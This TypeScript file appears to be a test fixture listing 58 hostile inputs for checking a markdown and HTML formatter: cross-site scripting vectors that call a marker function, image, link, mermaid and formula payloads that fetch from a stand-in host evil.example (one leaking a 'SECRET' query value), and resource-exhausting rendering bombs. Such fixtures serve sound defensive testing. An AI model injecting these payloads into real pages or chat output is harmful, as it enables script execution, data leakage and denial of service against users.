/** A hostile text: were one of its kind to work, it would call `ran()` or ask `evil.example` for something. */
export interface Payload {
  group: "html" | "link" | "image" | "mermaid" | "formula" | "other" | "bomb";
  text: string;
}

const HTML = [
  "<script>ran()</script>",
  "<img src=x onerror=ran()>",
  "<svg onload=ran()><script>ran()</script></svg>",
  '<iframe src="javascript:parent.ran()"></iframe>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<object data="https://evil.example/o.svg"></object><embed src="https://evil.example/e">',
  "<details open ontoggle=ran()>x</details>",
  "<input autofocus onfocus=ran()>",
  '<style>@import "https://evil.example/s.css"; body{background:url(https://evil.example/b)}</style>',
  '<link rel=stylesheet href="https://evil.example/l.css"><base href="https://evil.example/">',
  '<form action="https://evil.example/f"><button>Continue</button></form>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/m">',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=ran()&gt;'>",
  '<video autoplay src="https://evil.example/v"><source onerror=ran() src=x></video>',
  '<a href="javascript:ran()" onclick=ran()>click</a><div onmouseover=ran() style="position:fixed;inset:0">x</div>',
];

const LINKS = [
  "[x](javascript:ran())",
  "[x](JaVaScRiPt:ran())",
  "[x](&#106;avascript:ran())",
  "[x](java\tscript:ran())",
  "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQucmFuKCk8L3NjcmlwdD4=)",
  "[x](vbscript:ran())",
  "<javascript:ran()>",
  "[x]\n\n[x]: javascript:ran()",
  "[x](blob:https://evil.example/1) [y](#/models) [z](//evil.example/z) [w](/session/123?delete=1)",
];

const IMAGES = [
  "![x](https://evil.example/i.png?q=SECRET)",
  "![x](//evil.example/i.png)",
  "![x][i]\n\n[i]: https://evil.example/r.png",
  '![x](https://evil.example/t.png "title")',
  "![x](/session/123?delete=1)",
  "![x](javascript:ran())",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIi8+)",
  "![x](data:text/html,<script>ran()</script>)",
  "[![x](https://evil.example/n.png)](javascript:ran())",
];

const MERMAID = [
  'graph TD; A["<img src=x onerror=ran()>"]-->B["<script>ran()</script>"]',
  'graph TD; A-->B; click A "javascript:ran()" "x"',
  "graph TD; A-->B; click A call ran()",
  '%%{init: {"securityLevel":"loose","htmlLabels":true}}%%\ngraph TD; A["<img src=x onerror=ran()>"]',
  '%%{init: {"themeCSS":"*{background:url(https://evil.example/c)}"}}%%\ngraph TD; A-->B',
  '---\nconfig:\n  themeCSS: "*{background:url(https://evil.example/f)}"\n---\ngraph TD; A-->B',
  'flowchart TD\n  A@{ img: "https://evil.example/m.png", label: "x" }',
  "graph TD; A-->B; style A fill:url(https://evil.example/s)\nclassDef x fill:u\\72l(https://evil.example/d)",
].map((code) => `\`\`\`mermaid\n${code}\n\`\`\``);

const FORMULAS = [
  "$\\href{javascript:ran()}{x}$",
  "$\\includegraphics{https://evil.example/k.png}$",
  '$\\htmlData{x="y" onload=ran()}{x} \\htmlStyle{background:url(https://evil.example/k)}{y}$',
  "$$\n\\def\\a{\\a\\a}\\a\n$$",
  "$\\rule{100000em}{100000em}$ $\\url{javascript:ran()}$",
];

const OTHERS = [
  '```"><img src=x onerror=ran()>\n</code></pre><script>ran()</script>\n```',
  "[1](javascript:ran()) [^1]\n\n[^1]: <img src=x onerror=ran()> ![x](https://evil.example/fn)",
];

const BOMBS = [
  ">".repeat(5_000),
  `${"> ".repeat(5_000)}x`,
  Array.from({ length: 300 }, (_, depth) => `${"  ".repeat(depth)}- x`).join("\n"),
  `${"[".repeat(5_000)}x${"]".repeat(5_000)}`,
  `${"*a **b ".repeat(2_000)}`,
  `|${"a|".repeat(100)}\n|${"-|".repeat(100)}\n${`|${"a|".repeat(100)}\n`.repeat(100)}`,
  `\`\`\`js\n${"const a = 1;\n".repeat(5_000)}\`\`\``,
  "x".repeat(300_000),
  `\`\`\`mermaid\ngraph TD\n${"A-->B\n".repeat(5_000)}\`\`\``,
  `${"![".repeat(3_000)}x${"](y)".repeat(3_000)}`,
];

/** The 58 texts that a formatter was measured with in a real browser; each group is of one way in. */
export const PAYLOADS: Payload[] = [
  ...of("html", HTML),
  ...of("link", LINKS),
  ...of("image", IMAGES),
  ...of("mermaid", MERMAID),
  ...of("formula", FORMULAS),
  ...of("other", OTHERS),
  ...of("bomb", BOMBS),
];

function of(group: Payload["group"], texts: string[]): Payload[] {
  return texts.map((text) => ({ group, text }));
}
